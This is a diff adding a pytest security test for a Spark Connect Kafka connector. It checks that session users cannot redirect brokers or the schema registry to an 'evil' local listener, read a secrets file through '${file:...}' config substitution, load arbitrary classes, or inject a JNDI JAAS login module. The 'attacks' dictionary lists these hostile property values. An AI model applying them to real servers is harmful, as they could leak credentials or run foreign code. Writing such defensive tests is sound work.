@@ -1,0 +1,171 @@
+"""Other people's statements on a Connect server: they get none of its logins and files, and load no classes."""
+
+from __future__ import annotations
+
+import json
+import re
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+from support.cluster import addresses, client, connect
+
+if TYPE_CHECKING:
+    from conftest import Servers
+
+CLIENT = r'''
+import json, sys
+from pyspark.errors import PySparkException
+from pyspark.sql import SparkSession
+
+remote, topic, evil, file, canaries = sys.argv[1:]
+canaries = json.loads(canaries)
+KAFKA, REGISTRY = "spark.kafkalyst.kafka.", "spark.kafkalyst.schema.registry."
+spark = SparkSession.builder.remote(remote).create()
+told = []
+
+
+def refused(what, condition, run):
+    """The refusal names the property and the setting that allows it, and no canary."""
+    try:
+        run()
+    except PySparkException as error:
+        text = str(error)
+        told.append(text)
+        assert error.getCondition() == f"KAFKALYST_{condition}", (what, text[:600])
+        if condition == "LOCKED_PROPERTY":
+            assert what in text and error.getSqlState() == "42501", (what, text[:600])
+        if condition.startswith("LOCKED"):
+            assert "spark.kafkalyst.session.properties" in text, (what, text[:600])
+    else:
+        raise AssertionError(f"{what} was not refused")
+
+
+def sql(text, session=spark):
+    return session.sql(text).collect()
+
+
+definition = f"(k INT KEY, v STRING) WITH (KAFKA_TOPIC = '{topic}', VALUE_FORMAT = 'JSON', PARTITIONS = 1"
+sql(f"CREATE STREAM s {definition})")
+sql("INSERT INTO s VALUES (1, 'a'), (2, 'b')")
+assert sql("SELECT count(*) FROM s")[0][0] == 2
+
+# SET, each in a session of its own: what is read, asked or loaded is not, whatever statement has use for it.
+attacks = {
+    "spark.kafkalyst.bootstrap.servers": evil,
+    "spark.kafkalyst.session.properties": "open",
+    "spark.kafkalyst.query.checkpoint.root": "/tmp/theirs",
+    REGISTRY + "url": f"http://{evil}",
+    REGISTRY + "proxy.host": evil.split(":")[0],
+    REGISTRY + "conf.file": file,
+    REGISTRY + "ssl.truststore.location": file,
+    REGISTRY + "bearer.auth.issuer.endpoint.url": f"http://{evil}",
+    KAFKA + "security.protocol": "SASL_PLAINTEXT",
+    KAFKA + "config.providers": "directory",
+    KAFKA + "client.dns.lookup": "${file:" + file + ":root}",
+    KAFKA + "client.rack": "${file:" + file + ":root}",
+    KAFKA + "metric.reporters": "io.kafkalyst.Theirs",
+    KAFKA + "interceptor.classes": "io.kafkalyst.Theirs",
+    KAFKA + "sasl.oauthbearer.token.endpoint.url": f"file://{file}",
+    KAFKA + "sasl.jaas.config": "com.sun.security.auth.module.JndiLoginModule required;",
+    KAFKA + "ssl.keystore.location": file,
+}
+for name, value in attacks.items():
+    session = spark.newSession() if hasattr(spark, "newSession") else SparkSession.builder.remote(remote).create()
+    session.conf.set(name, value)
+    uses = ["PRINT " + topic] if not name.startswith(REGISTRY) else []
+    uses += [] if "checkpoint" in name else ["ASSERT SCHEMA SUBJECT 'any'"]
+    if "checkpoint" in name:
+        uses = ["CREATE STREAM theirs AS SELECT * FROM s"]
+    for use in uses:
+        refused(name, "LOCKED_PROPERTY", lambda: sql(use, session))
+    assert sql("SELECT 1", session)[0][0] == 1
+    session.conf.unset(name)
+
+# What a session took away stays.
+spark.conf.unset(REGISTRY + "basic.auth.user.info")
+spark.conf.unset("spark.kafkalyst.bootstrap.servers")
+assert sql("SELECT count(*) FROM s")[0][0] == 2
+
+# Definitions, options, hints, entries.
+others = {"security.protocol": "PLAINTEXT", "client.id": "${file:" + file + ":root}", "bootstrap.servers": evil}
+for name in ["interceptor.classes", "metric.reporters", "ssl.truststore.location", *others]:
+    full, value = f"properties.{name}", others.get(name, file)
+    refused(full, "LOCKED_PROPERTY", lambda: sql(f"CREATE STREAM x {definition}, '{full}' = '{value}')"))
+    if name != "bootstrap.servers":
+        flink = f"'connector' = 'kafka', 'topic' = '{topic}', 'format' = 'json', '{full}' = '{value}'"
+        refused(full, "LOCKED_PROPERTY", lambda: sql(f"CREATE TABLE x (v STRING) WITH ({flink})"))
+        hint = f"SELECT * FROM s /*+ OPTIONS('{full}' = '{value}') */"
+        refused(full, "LOCKED_PROPERTY", lambda: sql(hint))
+    refused(full, "LOCKED_PROPERTY", lambda: sql(f"ALTER TABLE s SET TBLPROPERTIES ('{full}' = '{value}')"))
+    reader = spark.read.format("kafkalyst").schema("v STRING").option("value_format", "JSON")
+    reader = reader.option("kafka_topic", topic).option(full, value)
+    refused(full, "LOCKED_PROPERTY", lambda: reader.load().collect())
+    entry = {row[0]: row[1] for row in sql("SHOW TBLPROPERTIES s")}
+    whole = spark.read.format("kafkalyst").schema("k INT, v STRING").options(**entry, **{full: value})
+    refused(full, "LOCKED_PROPERTY", lambda: whole.load().collect())
+    writer = spark.createDataFrame([(3, "c")], "k INT, v STRING").write.format("kafkalyst").mode("append")
+    refused(full, "LOCKED_PROPERTY", lambda: writer.options(**entry, **{full: value}).save())
+secret = "'properties.sasl.jaas.config' = 'x'"
+refused("sasl", "SECRET_IN_DEFINITION", lambda: sql(f"CREATE STREAM x {definition}, {secret})"))
+refused("sasl", "SECRET_IN_DEFINITION", lambda: sql(f"ALTER TABLE s SET TBLPROPERTIES ({secret})"))
+refused(file, "LOCKED_STATEMENT", lambda: sql(f"RUN SCRIPT '{file}'"))
+
+# What needs no trust goes on.
+spark.conf.set(KAFKA + "max.poll.records", "1")
+sql(f"CREATE STREAM fine {definition}, 'properties.fetch.max.wait.ms' = '50')")
+assert sql("SELECT count(*) FROM fine")[0][0] == 2
+told += [str(sql(show)) for show in ("SHOW PROPERTIES", "DESCRIBE EXTENDED s", "SHOW TBLPROPERTIES s", "SET -v", "SET")]
+for text in told:
+    for canary in canaries:
+        assert canary not in text, (canary, text)
+sql("DROP STREAM fine")
+sql("DROP STREAM s DELETE TOPIC")
+print("kept:", len(told))
+'''
+
+
+@contextmanager
+def listener() -> Iterator[tuple[str, list[bytes]]]:
+    """A host that takes whatever it is sent: its address, and that."""
+    heard: list[bytes] = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def listen() -> None:
+            while True:
+                try:
+                    connection, _ = server.accept()
+                except OSError:
+                    return
+                with connection:
+                    connection.settimeout(2)
+                    heard.append(b"connected")
+
+        threading.Thread(target=listen, daemon=True).start()
+        yield f"127.0.0.1:{server.getsockname()[1]}", heard
+
+
+def test_sessions_of_a_server(servers: Servers, topic: Callable[[str], str], tmp_path: Path, root: Path) -> None:
+    """Nothing of the server gets out, by any way in; what it says itself works, also by a file of secrets."""
+    canaries = [f"canary{n}x9" for n in range(4)]
+    file = tmp_path / "secrets.properties"
+    file.write_text(f"root={canaries[0]}\nid={canaries[1]}\nurl=http://{canaries[2]}\n{canaries[2]} is no property")
+    provider = "org.apache.kafka.common.config.provider.FileConfigProvider"
+    conf = {
+        **addresses(servers),
+        "spark.kafkalyst.schema.registry.basic.auth.user.info": f"me:{canaries[3]}",
+        # The application's own reference works, and the provider is there for everybody to misuse.
+        "spark.kafkalyst.kafka.config.providers": "file",
+        "spark.kafkalyst.kafka.config.providers.file.class": provider,
+        "spark.kafkalyst.kafka.client.id": f"${{file:{file}:id}}",
+        "spark.redaction.regex": "user[.]info",
+    }
+    with listener() as (evil, heard), connect(tmp_path, conf) as server:
+        done = client(root, CLIENT, [server, topic("trust"), evil, str(file), json.dumps(canaries)])
+    assert "kept:" in done.stdout, done.stdout[-1500:] + re.sub(r"\\n\\tat .*", "", done.stderr)[-4000:]
+    assert not heard
+    log = (tmp_path / "connect.log").read_text(errors="replace")
+    assert not [canary for canary in (canaries[0], canaries[2], canaries[3]) if canary in log]
